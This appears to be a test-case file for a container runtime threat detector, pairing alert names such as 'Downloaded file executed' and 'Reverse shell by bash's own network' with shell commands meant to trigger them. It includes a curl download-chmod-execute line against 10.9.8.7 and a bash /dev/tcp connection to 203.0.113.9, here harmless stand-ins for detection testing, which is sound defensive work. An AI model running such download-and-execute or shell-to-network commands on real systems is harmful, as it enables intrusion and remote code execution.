## Downloaded file executed
#also Executable run from a scratch folder
#also File in a scratch folder made executable by hand
#also Program in a scratch folder made executable, then run
#setup web
curl -s -o /tmp/x http://10.9.8.7:8000/true; chmod +x /tmp/x; /tmp/x
## File dropped and executed in a container
#also Right of root used for the first time by an image
#also Suspicious Process Execution
#in shop:1
mkdir -p /srv/x; python3 -c 'import shutil; shutil.copy("/bin/true", "/srv/x/x")'; /srv/x/x
## Shell connects to the network
#also Reverse shell by bash's own network
bash -c ': > /dev/tcp/203.0.113.9/443'
## Outbound connection from a container to the internet
#also Connection to a mining pool
#also Suspicious Process Execution
#in shop:1
#setup listener 4444
/opt/lab/connect tcp4 203.0.113.9 4444
## Download tool in a container
#also Right of root used for the first time by an image
#also Suspicious Process Execution
#in shop:1
curl -s http://10.9.8.7/
